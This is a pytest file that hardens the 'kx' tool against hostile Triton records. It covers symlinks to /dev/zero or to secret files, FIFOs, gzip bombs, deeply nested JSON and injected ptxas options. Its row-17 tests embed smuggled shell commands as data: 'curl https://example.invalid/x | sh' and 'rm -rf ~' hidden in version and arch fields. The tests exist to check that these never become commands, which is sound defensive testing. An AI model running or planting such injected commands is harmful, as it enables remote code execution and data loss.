"""Records, traces and bundles someone sent are read as data, within limits (issue 52, item
1: rows 1, 7, 8, 14, 15, 17 and 18): a FIFO, a device or a link out of the record is
refused, not read; a gzip bomb and a line nested 200,000 deep stop at their limit with a
message naming the file and the limit, exit status 2; the words a record holds (a Triton
version, an arch) never become a command kx suggests or a target it shows."""

from __future__ import annotations

import contextlib
import gzip
import io
import json
import os
import re
import resource
import subprocess
import sys
import zlib
from dataclasses import replace
from pathlib import Path

import pytest
from records_open.records_testing import CACHE, TRACE, copy_of, kernel_dirs

from kx_core import cli
from kx_core.base import outside_files
from kx_testing import ROOT

MEMORY_CAP = 3 << 30  # address space a `kx open` child may take (kx, torch and Triton load in 2)


def _limited_memory() -> None:
    resource.setrlimit(resource.RLIMIT_AS, (MEMORY_CAP, MEMORY_CAP))


def run_open(*args: str) -> subprocess.CompletedProcess:
    """`kx open ...` as a user runs it, in a child that may not take more than MEMORY_CAP
    (before the fix a record linked to /dev/zero read until the machine's OOM killer) and
    is ended if it blocks (a FIFO waited on forever before the fix)."""
    return subprocess.run(
        [sys.executable, "-m", "kx_core.cli", "open", *args],
        capture_output=True,
        text=True,
        env=dict(os.environ, PYTHONPATH=str(ROOT)),
        timeout=240,
        preexec_fn=_limited_memory,
    )


def kx(*argv: str) -> tuple[int, str, str]:
    """The command line in this process: (exit status, stdout, stderr)."""
    out, err = io.StringIO(), io.StringIO()
    with contextlib.redirect_stdout(out), contextlib.redirect_stderr(err):
        code = cli.main(list(argv))
    return code, out.getvalue(), err.getvalue()


def trace_lines() -> list[dict]:
    return [json.loads(line) for line in TRACE.read_text().splitlines() if line.strip()]


def write_trace(path: Path, events: list[dict]) -> Path:
    path.write_text("".join(json.dumps(e) + "\n" for e in events))
    return path


# ------------------------------------------------------------------ row 1: /dev/zero


def test_a_stage_linked_to_dev_zero_is_refused_not_read(tmp_path):
    cache = copy_of(CACHE, tmp_path)
    ptx = next(kernel_dirs(cache)[0].glob("*.ptx"))
    ptx.unlink()
    ptx.symlink_to("/dev/zero")
    p = run_open(str(cache))
    assert p.returncode == 2, p.stderr  # before: MemoryError, an internal error (exit 3), or the OOM killer
    assert f"{ptx}: refused: a link to /dev/zero, outside the record ({cache}): not followed" in p.stdout
    assert "internal error" not in p.stderr


def test_a_device_given_as_a_record_is_refused():
    p = run_open("/dev/zero")
    assert (
        p.returncode == 2
        and "/dev/zero: a character device, not a regular file or folder: not read" in p.stderr
    )


# ------------------------------------------------------------------ row 7: FIFOs


def test_a_fifo_inside_a_record_is_refused_at_once(tmp_path):
    cache = copy_of(CACHE, tmp_path)
    llir = next(kernel_dirs(cache)[0].glob("*.llir"))
    llir.unlink()
    os.mkfifo(llir)
    p = run_open(str(cache))  # before: blocked for a writer until the timeout
    assert p.returncode == 2
    assert f"{llir}: refused: a FIFO (named pipe), not a regular file: not read" in p.stdout
    assert "2 kernel(s)" in p.stdout  # the rest of the record is read


def test_a_fifo_given_as_a_trace_is_refused_at_once(tmp_path):
    fifo = tmp_path / "trace.ndjson"
    os.mkfifo(fifo)
    p = run_open(str(fifo))
    assert (
        p.returncode == 2
        and f"{fifo}: a FIFO (named pipe), not a regular file or folder: not read" in p.stderr
    )


# ------------------------------------------------------------------ row 8: a gzip bomb


def _zeros_gzip(path: Path, inflated: int, line: bytes = b"\n") -> Path:
    """A gzip stream of `inflated` bytes: blank lines (or, line=b'', one endless line)."""
    packer = zlib.compressobj(9, zlib.DEFLATED, 31)
    block = (b"\0" * 1023 + line) if line else b"\0" * 1024
    with open(path, "wb") as f:
        for _ in range(inflated // (1 << 20)):
            f.write(packer.compress(block * 1024))
        f.write(packer.flush())
    return path


def test_a_gzip_bomb_stops_at_its_ratio_with_progress(tmp_path, monkeypatch):
    from kx_core.recorded import trace_index
    from kx_core.recorded.open_record import open_record

    # the limits as they are, scaled down: a 64 MiB stream from 64 KiB is the 8 GiB-from-8 MB trace
    monkeypatch.setattr(
        outside_files, "LIMITS", replace(outside_files.LIMITS, inflation_floor=4 << 20), raising=False
    )
    monkeypatch.setattr(trace_index, "PROGRESS_INFLATED_BYTES", 1 << 20, raising=False)
    bomb = tmp_path / "trace.ndjson.gz"
    packed = _zeros_gzip(bomb, 64 << 20)
    # its first line is a trace's, so that it is read as one
    bomb.write_bytes(gzip.compress(TRACE.read_bytes().splitlines(keepends=True)[0]) + packed.read_bytes())
    steps = []
    opened = open_record(str(bomb), stages=False, progress=steps.append)
    refused = [d for d in opened.result.diagnostics if d.kind == "refused"]
    assert (
        refused
        and "more than the 200 times its compressed size kx reads (a gzip bomb?)" in refused[0].message
    )
    assert "1 kernel(s) read before it" in refused[0].message
    assert opened.result.exit_status == 2
    # progress was said while it inflated, in inflated bytes (the compressed ones hardly move)
    assert any(0 < s.inflated_bytes < 64 << 20 for s in steps[:-1])


def test_one_endless_line_stops_at_the_line_limit(tmp_path, monkeypatch):
    from kx_core.recorded.open_record import open_record

    monkeypatch.setattr(
        outside_files, "LIMITS", replace(outside_files.LIMITS, line_bytes=2 << 20), raising=False
    )
    packed = _zeros_gzip(tmp_path / "one.gz", 16 << 20, line=b"")
    bomb = tmp_path / "trace.ndjson.gz"
    bomb.write_bytes(gzip.compress(TRACE.read_bytes().splitlines(keepends=True)[0]) + packed.read_bytes())
    opened = open_record(str(bomb), stages=False)
    messages = [d.message for d in opened.result.diagnostics if d.kind == "refused"]
    assert any("line 2: a line longer than the 2 MiB kx reads: not read further" in m for m in messages), (
        messages
    )


def test_the_default_limits_refuse_the_reported_bomb():
    """The case of the report (8 MB inflating to 8 GiB) at the limits kx ships with."""
    assert "a gzip bomb?" in (outside_files.inflation_problem(8 << 20, 8 << 30) or "")
    assert outside_files.inflation_problem(200 << 20, 2 << 30) is None  # a real trace's 10x


# ------------------------------------------------------------------ row 14: the table


def _table_rows(text: str) -> dict[str, list[str]]:
    return {
        line.split()[0]: line.split() for line in text.splitlines() if line.startswith(("add_", "softmax_"))
    }


def test_the_table_shows_the_registers_json_has():
    code, table, _ = kx("open", str(TRACE))
    _, doc, _ = kx("open", str(TRACE), "--json")
    rows = _table_rows(table)
    for kernel in json.loads(doc)["kernels"]:
        shown = rows[kernel["name"]]
        regs = kernel["metadata"]["registers"]
        spills = kernel["metadata"]["spills"]
        # columns: kernel status grid warps stages regs spills shared compile-s
        assert shown[5] == ("-" if regs is None else str(regs)), (shown, regs)
        assert shown[6] == ("-" if spills is None else str(spills)), (shown, spills)


# ------------------------------------------------------------------ row 15: depth, bundles


def test_a_line_nested_200000_deep_is_refused_not_an_internal_error(tmp_path):
    events = trace_lines()
    line = json.dumps(events[0])[:-1] + ', "x": ' + "[" * 200_000 + "]" * 200_000 + "}"
    trace = tmp_path / "deep.ndjson"
    trace.write_text(line + "\n" + json.dumps(events[1]) + "\n")
    for extra in ([], ["--json"]):
        code, out, err = kx("open", str(trace), *extra)
        assert code == 2, err  # before: internal error ... RecursionError, exit 3
        assert "JSON nested 200,001 deep, past the 400 levels kx reads" in out + err
        assert "softmax_rows" in out  # the other line is read


@pytest.mark.parametrize("kind", ["metadata", "hatchet", "torch-trace"])
def test_deep_json_in_other_records_is_refused(tmp_path, kind):
    deep = "[" * 100_000 + "]" * 100_000
    if kind == "metadata":
        path = copy_of(CACHE, tmp_path)
        meta = next(p for p in kernel_dirs(path)[0].glob("*.json") if not p.name.startswith("__grp__"))
        meta.write_text('{"hash": "x", "deep": ' + deep + "}")
    elif kind == "hatchet":
        path = tmp_path / "p.hatchet"
        path.write_text('[{"children": [], "frame": {"name": "ROOT"}, "metrics": {"x": ' + deep + "}}]")
    else:
        path = tmp_path / "t.log"
        path.write_text('V1203 15:02:29.105000 716 torch/x.py:1] {"dynamo_start": ' + deep + "}\n")
    code, out, err = kx("open", str(path), "--json")
    assert code == 2 and "internal error" not in err
    assert re.search(r"JSON nested 100,00\d deep, past the 400 levels kx reads", out + err), out + err


def _bundle(path: Path, **fields) -> Path:
    """A bundle kx wrote (a record's result), then fields changed and its digest made
    again (it covers every field since kx-bundle/2: what is left to check is the values)."""
    from kx_core.recorded.open_record import open_record
    from kx_core.records.bundle import digest_of, write_bundle

    write_bundle(str(path), "x = 1\n", open_record(str(CACHE)).result)
    doc = json.loads(gzip.decompress(path.read_bytes())) | fields
    doc["digest"] = digest_of(doc)
    path.write_bytes(gzip.compress(json.dumps(doc).encode()))
    return path


@pytest.mark.parametrize("created", ["yesterday", None, [1], 1e400, -5, True])
def test_a_bundle_created_yesterday_opens_with_no_date(tmp_path, created):
    from kx_core.records.bundle import read_bundle

    # before: ValueError or TypeError from float(created), and the app's menu slot raised
    bundle = read_bundle(str(_bundle(tmp_path / "b.kxb", created=created, kx=["x"])))
    assert bundle.created == 0.0 and bundle.kx_version == "['x']"
    assert len(bundle.result.kernels) == 2


def test_a_deep_or_fifo_bundle_is_a_bundle_error(tmp_path):
    from kx_core.records.bundle import BundleError, read_bundle

    deep = tmp_path / "deep.kxb"
    deep.write_bytes(gzip.compress(b"[" * 100_000 + b"]" * 100_000))
    with pytest.raises(BundleError, match="JSON nested 100,000 deep"):
        read_bundle(str(deep))
    fifo = tmp_path / "fifo.kxb"
    os.mkfifo(fifo)
    with pytest.raises(BundleError, match="a FIFO"):
        read_bundle(str(fifo))


# ------------------------------------------------------------------ row 17: words as data


HOSTILE_VERSION = "3.6.0; curl https://example.invalid/x | sh"


def _hostile_trace(tmp_path: Path) -> Path:
    events = trace_lines()
    for e in events:
        md = e.get("payload", {}).get("metadata") if isinstance(e.get("payload"), dict) else None
        if md:
            md["triton_version"] = HOSTILE_VERSION
            md["target"]["arch"] = "90; rm -rf ~"
            md["arch"] = "90; rm -rf ~"
    return write_trace(tmp_path / "hostile.ndjson", events)


def test_record_words_never_make_a_command_or_a_target(tmp_path):
    trace = _hostile_trace(tmp_path)
    for extra in ([], ["--json"]):
        code, out, err = kx("open", str(trace), *extra)
        text = out + err
        assert code in (0, 1), err
        # before: "`kx versions add 3.6.0; curl ... | sh` lets kx recompile it", target "cuda:90; rm -rf ~"
        assert f"kx versions add {HOSTILE_VERSION}" not in text
        assert "cuda:90; rm" not in text
        assert "is not a release kx can add" in text
        assert "the record's target arch '90; rm -rf ~' is not a cuda arch: shown as cuda:90" in text
    code, table, _ = kx("open", str(trace))
    assert f"triton not a version ({HOSTILE_VERSION!r})" in table


def test_record_ptxas_options_never_name_a_file(tmp_path):
    from kx_core.recorded.recompiled_cubin import recompile

    for options in ("-o /tmp/kx-owned", "--output-file=../x", "--options-file=/etc/passwd", ["x"]):
        cubin, why = recompile("k", ".version 8.0", 90, {"triton_version": "3.6.0", "ptx_options": options})
        assert cubin is None and "not recompiled" in why, (options, why)


# ------------------------------------------------------------------ row 18: links out


def test_a_stage_linked_to_a_secret_is_neither_shown_nor_exported(tmp_path):
    secret = tmp_path / "home" / "secret.txt"
    secret.parent.mkdir()
    secret.write_text("the user's secret\n")
    cache = copy_of(CACHE, tmp_path)
    ttir = next(kernel_dirs(cache)[0].glob("*.ttir"))
    ttir.unlink()
    ttir.symlink_to(secret)
    out_dir = tmp_path / "out"
    code, out, err = kx("open", str(cache), "--json", "--out", str(out_dir))
    assert code == 2
    assert "the user's secret" not in out  # before: shown as the kernel's TTIR
    assert not any("the user's secret" in p.read_text() for p in out_dir.iterdir())  # before: exported
    assert f"{ttir}: refused: a link to {secret}, outside the record" in err


def test_a_link_inside_the_record_is_followed(tmp_path):
    cache = copy_of(CACHE, tmp_path)
    folder = kernel_dirs(cache)[0]
    ttir = next(folder.glob("*.ttir"))
    (folder / "kept.txt").write_bytes(ttir.read_bytes())
    ttir.unlink()
    ttir.symlink_to(folder / "kept.txt")
    code, out, err = kx("open", str(cache), "--stage", "ttir")
    assert code == 0 and "tt.func" in out, err


def test_paths_a_trace_names_read_no_secret(tmp_path):
    from kx_core.recorded.open_record import open_record

    secret = tmp_path / "secret.txt"
    secret.write_text("the user's secret\n")
    events = trace_lines()
    payload = events[0]["payload"]
    payload["file_path"] = {name: str(secret) for name in payload["file_path"]}  # its cubin: the secret
    trace = write_trace(tmp_path / "t.ndjson", events)
    opened = open_record(str(trace))
    kernel = opened.result.kernels[0]
    assert "cubin" not in kernel.binaries or b"secret" not in kernel.binaries["cubin"].encode()
    assert not any(str(secret) in n for n in kernel.metadata.extra.get("notes", ()))
    # a source file the trace names is read only where it is a kernel's (.py)
    assert opened.source_text(str(secret)) is None


def test_a_trace_cut_inside_its_only_kernel_opens_lazily(tmp_path):
    """Found by the fuzz: the app's lazy opening kept the first kernel it had shown after
    the index dropped it (its line cut short), and reading its stages raised IndexError."""
    from kx_core.recorded.open_record import OpenedRecord, iter_open

    trace = tmp_path / "cut.ndjson"
    trace.write_text(json.dumps(trace_lines()[0])[:-100])  # the line ends inside the event
    whole = list(iter_open(str(trace)))[-1]
    assert isinstance(whole, OpenedRecord) and whole.result.kernels == ()
    assert any("a truncated record" in d.message for d in whole.result.diagnostics)
